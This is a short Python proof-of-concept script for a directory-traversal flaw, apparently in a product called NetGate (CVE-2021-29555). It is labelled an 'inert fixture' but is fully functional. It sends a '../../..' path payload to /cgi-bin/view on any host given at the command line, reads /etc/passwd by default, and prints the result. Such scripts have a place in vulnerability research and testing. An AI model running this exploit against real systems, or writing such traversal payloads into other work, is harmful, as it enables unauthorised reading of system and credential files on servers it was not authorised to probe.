# CVE-2021-29555 NetGate directory traversal (inert fixture).
import argparse
import http.client


def read_file(host, path):
    conn = http.client.HTTPConnection(host, 80, timeout=5)
    payload = "../../.." + path
    conn.request("GET", "/cgi-bin/view?page=" + payload)
    return conn.getresponse().read()


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--file", default="/etc/passwd")
    args = ap.parse_args()
    print(read_file(args.host, args.file).decode(errors="replace"))
